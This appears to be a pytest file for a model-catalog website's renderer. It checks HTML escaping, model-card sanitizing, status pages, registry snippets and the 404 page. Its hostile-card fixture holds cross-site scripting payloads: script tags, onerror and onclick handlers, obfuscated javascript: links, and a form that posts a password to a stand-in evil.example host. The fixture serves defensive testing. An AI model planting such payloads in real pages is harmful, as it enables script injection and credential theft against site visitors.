"""The catalog site, rendered: escaping everywhere, missing fields, hostile model cards, the CLI, the 404 page.

The browser tests (tests/test_site_browser.py) drive the same pages in Chromium; these check the
bytes the renderer writes.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from pipeline.build.publish import BuiltImage
from pipeline.cli import main
from pipeline.errors import ModelyardError
from pipeline.models.file import ModelSpec
from pipeline.site.card import render_card, split_front_matter, summary
from pipeline.site.catalog import catalog_entries, entry_from_record
from pipeline.site.output import publish_site
from pipeline.site.render import FALLBACK_HOST, SiteOptions, Templates, render_site
from pipeline.site.snippets import snippets
from pipeline.store import Store, open_store
from tests.registry_fixtures import NAME, moto_s3, publish
from worker.app import create_app

EVIL = "<x-evil a=\"b\" c='d'>&amp;é✓"  # markup, both quotes, an entity and non-ASCII text
TEMPLATES = Templates.load()


def record(**fields: Any) -> dict[str, Any]:
    """A complete catalog record, as pipeline/build/publish.py writes it."""
    base: dict[str, Any] = {
        "name": "org/model",
        "hf_id": "Org/Model",
        "title": "Org/Model",
        "source": "https://huggingface.co/Org/Model",
        "revision": "a" * 40,
        "tags": ["latest", "a" * 40],
        "index_digest": "sha256:" + "1" * 64,
        "layer_digest": "sha256:" + "2" * 64,
        "layer_size": 1234,
        "toc_digest": "sha256:" + "3" * 64,
        "diff_id": "sha256:" + "4" * 64,
        "platforms": ["linux/amd64", "linux/arm64"],
        "manifests": [{"platform": "linux/amd64", "digest": "sha256:" + "5" * 64, "size": 500}],
        "format_version": "1",
        "total_size": 3000,
        "files": [
            {"path": "config.json", "size": 1000, "sha256": "6" * 64},
            {"path": "model.safetensors", "size": 2000, "sha256": "7" * 64},
        ],
        "license": "mit",
        "pipeline_tag": "fill-mask",
        "library_name": "transformers",
        "hub_tags": ["license:mit"],
        "gated": False,
        "languages": ["en"],
        "base_models": ["bert-base-uncased"],
        "parameters": 110_000_000,
        "tensor_types": {"F32": 110_000_000},
        "downloads": 12345,
        "likes": 67,
        "card_data": {"license": "mit", "datasets": ["wiki"]},
        "published_at": "2026-01-02T03:04:05Z",
        "model_card": "---\nlicense: mit\n---\n# Model\n\nA model that fills in masked words in English text.\n",
    }
    return base | fields


def render(
    records: dict[str, dict[str, Any]],
    specs: list[ModelSpec] = (),
    failures: dict[str, Any] | None = None,
    host: str | None = "models.example.com",
) -> dict[str, bytes]:  # type: ignore[assignment]
    return render_site(catalog_entries(records, specs, failures), SiteOptions(registry_host=host), TEMPLATES)


class Tags(HTMLParser):
    """Every start tag and attribute of a page, to find markup that came from the input."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: bytes) -> Tags:
    parser = Tags()
    parser.feed(html.decode())
    return parser


def pages(files: dict[str, bytes]) -> dict[str, bytes]:
    return {path: data for path, data in files.items() if path.endswith(".html")}


def test_hostile_text_is_escaped_in_every_field_of_every_page() -> None:
    hostile = record(
        hf_id=f"Org/{EVIL}",
        license=EVIL,
        pipeline_tag=EVIL,
        library_name=EVIL,
        languages=[EVIL],
        base_models=[EVIL],
        tensor_types={EVIL: 5},
        tags=["latest"],
        files=[
            {"path": f"dir {EVIL}/f\"il'e<.json", "size": 10, "sha256": EVIL},
            {"path": "ünïcødé/名前.bin", "size": 20, "sha256": "8" * 64},
        ],
        card_data={"datasets": [EVIL], "tags": [EVIL]},
        model_card=f"# {EVIL}\n\nA first paragraph that mentions {EVIL} twice: {EVIL}.\n",
        published_at=EVIL,
    )
    failures = {"org/failed": {"revision": "b" * 40, "error": EVIL, "failed_at": 1_700_000_000, "hf_id": EVIL}}
    files = render({"org/model": hostile}, [ModelSpec("org/failed", "b" * 40)], failures, host="models.example.com")
    for path, html in pages(files).items():
        parsed = parse(html)
        assert not any(tag == "x-evil" for tag, _ in parsed.tags), path
        assert all("a" not in attrs or tag != "x-evil" for tag, attrs in parsed.tags)
        assert b"<x-evil" not in html, path
    model_page = files["org/model/index.html"].decode()
    text = "".join(parse(files["org/model/index.html"]).text)
    assert EVIL in text  # shown, as text
    assert "ünïcødé/名前.bin" in text
    assert "&lt;x-evil" in model_page
    assert EVIL in "".join(parse(files["org/failed/index.html"]).text)  # the failure's error, escaped
    data = json.loads(files["api/models/org/model.json"])
    assert data["license"] == EVIL  # data stays data
    assert json.loads(files["api/models.json"])["models"][1]["hf_id"] == f"Org/{EVIL}"


HOSTILE_CARD = """\
---
license: mit
---
# Title <script>alert('h1')</script>
<script>alert(1)</script>

<img src="https://evil.example/pixel.png" onerror="alert(2)">

<img srcset="https://evil.example/a.png 1x">

![tracking pixel](https://evil.example/md.png)

![relative](images/diagram.png)

<a href="javascript:alert(3)">js link</a> <a href="  JaVaScRiPt:alert(4)">spaced</a>

<a href="jav&#x61;script:alert(5)">entity</a> <a href="vbscript:x">vb</a> <a href="data:text/html,<script>x</script>">data</a>

[md js](javascript:alert(6)) [relative](config.json) [anchor](#usage) [external](https://example.com/docs)

<div onclick="alert(7)" style="background:url(https://evil.example/bg.png)">styled</div>

<svg onload="alert(8)"><circle r="5"/></svg> <math><mi>x</mi></math>

<iframe src="https://evil.example/frame"></iframe> <object data="x"></object> <embed src="x">

<form action="https://evil.example/steal"><input name="password"><button>go</button></form>

<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">

<link rel="stylesheet" href="https://evil.example/s.css"> <style>body{display:none}</style>

<video src="https://evil.example/v.mp4" autoplay></video> <audio src="x.mp3"></audio>

<p title="x" onmouseover="alert(9)">paragraph</p>

<details open ontoggle="alert(10)"><summary>more</summary>hidden</details>

```html
<script>this is code, shown as text</script>
```
"""


def test_a_hostile_model_card_can_neither_run_nor_load_anything() -> None:
    front, body = split_front_matter(HOSTILE_CARD)
    assert front == {"license": "mit"}
    html = render_card(body, "https://huggingface.co/Org/Model", "a" * 40)
    parsed = parse(html.encode())
    # what the sanitizer keeps, and what the renderer adds so that scrolling code and tables take focus
    allowed_attributes = {
        "href",
        "rel",
        "title",
        "colspan",
        "rowspan",
        "scope",
        "start",
        "tabindex",
        "class",
        "role",
        "aria-label",
    }
    for tag, attrs in parsed.tags:
        assert tag not in {"script", "img", "iframe", "object", "embed", "form", "input", "base", "meta", "link",
                           "style", "svg", "math", "video", "audio", "button"}, tag  # fmt: skip
        assert set(attrs) <= allowed_attributes, (tag, attrs)
        href = attrs.get("href") or ""
        assert href.startswith(("https://", "http://", "#", "mailto:")) or not href, href
    assert "javascript" not in html.lower().replace("javascript:alert(6)", "")  # only as visible text
    assert not re.search(r"(?i)\bon[a-z]+=", html)
    hrefs = [attrs.get("href") for tag, attrs in parsed.tags if tag == "a"]
    assert "https://huggingface.co/Org/Model/blob/" + "a" * 40 + "/config.json" in hrefs  # relative: on the Hub
    assert "https://huggingface.co/Org/Model/blob/" + "a" * 40 + "/images/diagram.png" in hrefs  # an image: a link
    assert "https://evil.example/md.png" in hrefs and "#usage" in hrefs
    assert all(a.get("rel") == "nofollow noopener noreferrer" for tag, a in parsed.tags if tag == "a" and a.get("href"))
    text = "".join(parsed.text)
    assert "<script>this is code, shown as text</script>" in text  # code blocks show markup as text
    assert "paragraph" in text and "styled" in text
    assert re.findall(r"<h(\d)", html)[0] == "3"  # the card's h1 sits under the page's h1 and h2


def test_the_card_renders_on_the_page_without_its_front_matter() -> None:
    files = render({"org/model": record(model_card=HOSTILE_CARD)})
    page = files["org/model/index.html"].decode()
    assert "license: mit" not in page  # front matter is facts, not text
    assert "<script>alert" not in page and "evil.example/pixel.png" not in page
    assert b"<script src=" in files["org/model/index.html"]  # our own script, and nothing else
    assert len(re.findall(r"<script\b", page)) == 1


def test_every_optional_field_may_be_missing() -> None:
    bare = {"name": "org/bare"}  # what an old or partial record might hold
    old = {k: v for k, v in record().items() if k not in {"languages", "base_models", "parameters", "tensor_types",
                                                           "downloads", "likes", "card_data", "published_at", "manifests"}}  # fmt: skip
    wrong_types = record(
        parameters="many", files="none", tags=7, manifests=[1], tensor_types=[], downloads=-1, gated="yes"
    )
    files = render(
        {"org/bare": bare, "org/old": old, "org/wrong": wrong_types},
        [ModelSpec("org/notyet", "c" * 40)],
        {"org/gone": {"error": "boom"}},  # a failure of a model neither listed nor built: not shown
        host=None,
    )
    assert {"org/bare/index.html", "org/old/index.html", "org/wrong/index.html", "org/notyet/index.html"} <= set(files)
    assert "org/gone/index.html" not in files
    index = files["index.html"].decode()
    for name in ("org/bare", "org/old", "org/wrong", "org/notyet"):
        assert f'href="{name}/"' in index
    assert "not yet built" in files["org/notyet/index.html"].decode()
    assert "Digests" not in files["org/bare/index.html"].decode()
    assert FALLBACK_HOST in files["org/old/index.html"].decode()  # no host given: the fallback until the script runs
    summary_of = {m["name"]: m for m in json.loads(files["api/models.json"])["models"]}
    assert summary_of["org/notyet"]["status"] == "not-built" and summary_of["org/wrong"]["parameters"] is None


def test_status_published_failed_and_not_built() -> None:
    failures = {
        "org/failed": {
            "revision": "b" * 40,
            "error": "org/failed: the Hub listed x without its size",
            "failed_at": 1_700_000_000,
        },
        "org/model": {"revision": "d" * 40, "error": "newer revision failed", "failed_at": 1_700_000_000},
    }
    specs = [ModelSpec("org/failed", "b" * 40), ModelSpec("Org/NotYet", "c" * 40), ModelSpec("org/model", "d" * 40)]
    entries = catalog_entries({"org/model": record()}, specs, failures)
    assert [(e.name, e.status) for e in entries] == [
        ("org/failed", "failed"),
        ("org/model", "published"),
        ("org/notyet", "not-built"),
    ]
    files = render_site(entries, SiteOptions("models.example.com"), TEMPLATES)
    failed = files["org/failed/index.html"].decode()
    assert "The last build failed" in failed and "without its size" in failed and "2023-11-14" in failed
    assert "newer revision failed" in files["org/model/index.html"].decode()  # still published, the failure noted
    assert b"COPY --from" not in files["org/failed/index.html"]  # nothing to pull: no snippet that cannot work


def test_snippets_name_the_registry_host_and_pin_digests() -> None:
    entry = entry_from_record("org/model", record())
    texts = {s.key: s.text("models.example.com", insecure=False) for s in snippets(entry)}
    assert texts["copy-all"] == "COPY --from=models.example.com/org/model / /models/model/"
    assert (
        texts["copy-file:config.json"]
        == "COPY --from=models.example.com/org/model /config.json /models/model/config.json"
    )
    assert texts["copy-digest"] == f"COPY --from=models.example.com/org/model@sha256:{'1' * 64} / /models/model/"
    assert texts["copy-revision"] == f"COPY --from=models.example.com/org/model:{'a' * 40} / /models/model/"
    assert f"reference: models.example.com/org/model@sha256:{'1' * 64}" in texts["pod"]
    assert texts["skopeo"] == "skopeo copy docker://models.example.com/org/model oci:model:latest"
    assert texts["podman"] == "podman pull models.example.com/org/model"
    assert "--tls-verify=false" in snippets(entry)[-1].text("127.0.0.1:5000", insecure=True)
    page = render({"org/model": record()})["org/model/index.html"].decode()
    assert "models.example.com/org/model@sha256:" + "1" * 64 in "".join(parse(page.encode()).text)
    assert "--tls-verify=false" not in page
    local = render({"org/model": record()}, host="127.0.0.1:5000")["org/model/index.html"].decode()
    assert "--tls-verify=false" in local  # a registry on this machine speaks plain HTTP


def test_other_formats_get_their_snippets_and_digests() -> None:
    formats = {
        "modelkit": {
            "digest": "sha256:" + "9" * 64,
            "artifactType": "k",
            "tags": ["latest-modelkit", "a" * 40 + "-modelkit"],
        },
        "modelpack": {
            "digest": "sha256:" + "8" * 64,
            "artifactType": "p",
            "tags": ["latest-modelpack", "a" * 40 + "-modelpack"],
        },
    }
    entry = entry_from_record("org/model", record(formats=formats))
    texts = {s.key: s.text("models.example.com", insecure=False) for s in snippets(entry)}
    assert texts["oras"] == "oras pull models.example.com/org/model:latest-modelpack -o model/"
    assert texts["kit"] == "kit unpack models.example.com/org/model:latest-modelkit -d model/"
    assert texts["docker-model"] == "docker model pull models.example.com/org/model:latest-modelpack"
    page = render({"org/model": record(formats=formats)})["org/model/index.html"].decode()
    assert "ModelPack manifest (latest-modelpack, " in page and "sha256:" + "8" * 64 in page
    without = {s.key: s.text("h", insecure=False) for s in snippets(entry_from_record("org/model", record()))}
    assert without["oras"].startswith("mkdir -p model && oras blob fetch") and "kit" not in without


def test_index_lists_facts_and_the_filters_options() -> None:
    files = render(
        {
            "org/model": record(),
            "org/other": record(name="org/other", pipeline_tag="text-generation", license="apache-2.0"),
        }
    )
    index = files["index.html"].decode()
    assert 'data-task="fill-mask"' in index and 'data-params="110000000"' in index and 'data-size="3000"' in index
    assert '<option value="text-generation">text-generation (1)</option>' in index
    assert "110M" in index and "3.0 kB" in index and "aaaaaaa" in index and "2026-01-02" in index
    assert summary(record()["model_card"].split("---\n", 2)[2]) in index
    search = json.loads(files["api/search.json"])
    assert "masked" in search["org/model"].split()
    assert re.search(r'<meta name="description" content="[^"]{40,}">', index)
    for html in pages(files).values():
        assert re.search(rb"<title>[^<]+</title>", html) and b'<html lang="en"' in html


def test_renders_are_identical_and_names_cannot_clash_with_site_files() -> None:
    assert render({"org/model": record()}) == render({"org/model": record()})
    with pytest.raises(ModelyardError, match=re.escape("api/models.json")):
        render({"api/models.json": record(name="api/models.json")})


def test_modelyard_site_writes_the_store_and_out_incrementally(
    store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # no models/models.yaml here: the store's catalog alone
    publish(store, tmp_path / "model", {"config.json": b"{}", "weights/model.bin": b"x" * 1000})
    location = str(store.backend.url())
    out = tmp_path / "public"
    assert main(["site", "--store", location, "--out", str(out), "--registry-host", "models.example.com"]) == 0
    first = capsys.readouterr().out
    assert re.search(r"site: 1 models, \d+ files .* (\d+) written, 0 removed", first)
    assert (out / NAME / "index.html").read_bytes() == store.backend.read(f"site/{NAME}/index.html")
    assert "models.example.com/org/model" in (out / NAME / "index.html").read_text()
    assert main(["site", "--store", location, "--out", str(out), "--registry-host", "models.example.com"]) == 0
    assert "; 0 written, 0 removed" in capsys.readouterr().out  # nothing changed, nothing written
    publish(store, tmp_path / "second", {"config.json": b"{}"}, name="org/second")
    assert main(["site", "--store", location, "--registry-host", "models.example.com"]) == 0
    second = capsys.readouterr().out
    written = int(re.search(r"(\d+) written", second)[1])  # type: ignore[index]
    assert written == 4  # its page, its JSON, api/models.json and the index; the first page is unchanged
    store.backend.delete("catalog/org/second.json")
    assert main(["site", "--store", location, "--registry-host", "models.example.com"]) == 0
    assert "2 removed" in capsys.readouterr().out and store.backend.stat("site/org/second/index.html") is None


def test_the_registry_serves_the_sites_404_page_and_caches_hashed_assets(store: Store, tmp_path: Path) -> None:
    publish(store, tmp_path / "model", {"config.json": b"{}"})
    client = TestClient(create_app(store))
    missing = client.get("/no/such/page")
    assert missing.status_code == 404 and missing.json()["errors"][0]["code"] == "NOT_FOUND"  # no site yet: JSON
    publish_site(store, [], SiteOptions())
    page = client.get("/no/such/page")
    assert page.status_code == 404 and page.headers["content-type"] == "text/html; charset=utf-8"
    assert "<title>Not found" in page.text and page.headers["cache-control"] == "no-store"
    assert client.head("/no/such/page").status_code == 404
    assert client.get("/v2/org/none/manifests/latest").json()["errors"][0]["code"] == "NAME_UNKNOWN"  # the API: JSON
    assert client.get("/..%2f").status_code == 400  # a refused path is no page
    home = client.get("/")
    assert home.status_code == 200 and home.headers["cache-control"] == "public, max-age=60"
    css = re.search(r'href="(assets/style\.[0-9a-f]{16}\.css)"', home.text)
    assert css is not None
    assert client.get("/" + css[1]).headers["cache-control"] == "public, max-age=31536000, immutable"
    assert (
        client.get(f"/{NAME}", follow_redirects=False).status_code == 308
    )  # the name from a Dockerfile opens the page
    assert client.get(f"/{NAME}/").status_code == 200


def test_the_page_numbers_are_the_images(store: Store, tmp_path: Path) -> None:
    files = {"config.json": b'{"a": 1}', "sub/weights.bin": b"w" * 5000}
    built: BuiltImage = publish(store, tmp_path / "model", files)
    publish_site(store, [], SiteOptions("models.example.com"))
    page = store.backend.read(f"site/{NAME}/index.html").decode()
    for digest in (built.index.digest, built.layer.digest, built.layer.toc_digest, built.layer.diff_id,
                   *(m.descriptor.digest for m in built.image.manifests)):  # fmt: skip
        assert digest in page
    for record_file in built.layer.files:
        assert f'data-bytes="{record_file.size}"' in page and record_file.digest.removeprefix("sha256:") in page


def test_a_site_in_a_bucket(tmp_path: Path) -> None:
    """The same site, written into and served from an S3 store (moto)."""
    with moto_s3() as s3:
        store = open_store("s3://models/prod")
        publish(store, tmp_path / "model", {"config.json": b"{}"})
        report = publish_site(store, [], SiteOptions("models.example.com"))
        assert report.where == ("s3://models/prod/site/",) and report.written == report.files
        assert publish_site(store, [], SiteOptions("models.example.com")).written == 0
        client = TestClient(create_app(store))
        page = client.get(f"/{NAME}/")
        assert page.status_code == 200 and "models.example.com/org/model" in page.text
        assert client.get("/nothing/here").status_code == 404
        assert s3.endpoint.startswith("http://127.0.0.1")
